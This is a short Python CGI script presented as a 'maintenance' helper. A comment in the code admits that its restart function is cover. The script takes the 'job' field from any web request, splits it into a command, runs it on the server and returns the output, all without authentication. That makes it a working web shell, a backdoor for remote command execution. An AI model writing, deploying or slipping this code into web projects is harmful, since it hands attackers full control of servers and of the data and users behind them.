#!/usr/bin/env python3
# A "maintenance" CGI: a self-restart helper as cover, and a form field split into a command and run.
import cgi
import os
import subprocess
import sys


def restart():
    args = [sys.executable] + sys.argv
    env = os.environ.copy()
    subprocess.Popen(args, env=env)


form = cgi.FieldStorage()
job = form.getfirst("job", "")
print("Content-Type: text/plain")
print()
if job == "restart":
    restart()
elif job:
    cmd = job.split()
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    print(proc.communicate()[0].decode(errors="replace"))
